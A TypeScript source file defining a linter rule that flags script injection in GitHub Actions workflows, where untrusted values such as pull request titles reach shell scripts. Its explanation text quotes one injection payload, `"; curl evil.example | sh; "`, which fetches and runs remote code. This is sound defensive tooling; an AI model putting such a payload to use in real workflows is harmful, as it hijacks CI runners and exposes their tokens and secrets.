import { entryOf, textAt, type YamlEntry } from '../yaml/yaml-node.ts';
import type { Fault } from '../configuration-rule.ts';
import { defineActionsRule } from './define.ts';
import { expressionsIn, type Taint, taintOf } from './expressions.ts';
import { knownTaint } from './tainted-values.ts';
import type { Step } from './workflow.ts';

export const scriptInjection = defineActionsRule({
  id: 'configuration/actions-script-injection',
  title: '`{source}` becomes part of the script before a shell reads it',
  cwe: 'CWE-94',
  severity: 'high',
  confidence: 0.95,
  why: 'The runner pastes the value into the script. Whoever writes a title, a branch name or a comment such as `"; curl evil.example | sh; "` runs commands on the runner, with its token and secrets.',
  instead: 'Hand the value over in `env`, and let the script read the variable in quotes.',
  example: `- run: echo "$TITLE"
  env:
    TITLE: \${{ github.event.pull_request.title }}`,
  *find(workflow): Iterable<Fault> {
    const told = new Set<string>();
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        const known = knownTaint(workflow, job, step.node);
        for (const script of scriptsOf(step)) {
          for (const { body, start, end } of expressionsIn(workflow.text, script.value)) {
            const taint = taintOf(body, known);
            if (taint === undefined || taint.severity === 'info' || told.has(taint.source)) continue;
            // Who starts a workflow by hand may write to the repository: said once for each input, that is enough.
            if (taint.source.startsWith('inputs.')) told.add(taint.source);
            yield {
              at: { start, end },
              trail: script.value.via,
              identity: `${job.id}/${step.name}: ${body}`,
              source: taint.source,
              ...levelOf(taint),
            };
          }
        }
      }
    }
  },
});

function levelOf({ severity }: Taint): Pick<Fault, 'severity' | 'confidence'> {
  return severity === 'high' ? { severity } : { severity, confidence: severity === 'low' ? 0.5 : 0.7 };
}

/** Inputs of actions that run what they are given, by the action's name. */
const scriptInputs: readonly (readonly [RegExp, string])[] = [
  [/^actions\/github-script@/, 'script'],
  [/^(appleboy\/ssh-action|appleboy\/ssh|fifsky\/ssh-action)@/, 'script'],
  [/^(azure\/cli|azure\/powershell|addnab\/docker-run-action)@/i, 'inlineScript'],
  [/^addnab\/docker-run-action@/i, 'run'],
  [/^(nick-fields|nick-invision)\/retry@/, 'command'],
  [/^(cardinalby\/js-eval-action|mikefarah\/yq)@/, 'cmd'],
  [/^(cypress-io\/github-action|reactivecircus\/android-emulator-runner)@/, 'script'],
  [/^docker:\/\//, 'args'],
];

export function scriptsOf({ node, uses, run }: Step): readonly YamlEntry[] {
  const scripts = run === undefined ? [] : [run];
  for (const [action, input] of scriptInputs) {
    const entry = uses !== undefined && action.test(uses) ? entryOf(node, 'with', input) : undefined;
    if (entry !== undefined) scripts.push(entry);
  }
  if (textAt(node, 'shell')?.includes('${{') === true) {
    const shell = entryOf(node, 'shell');
    if (shell !== undefined) scripts.push(shell);
  }
  return scripts;
}
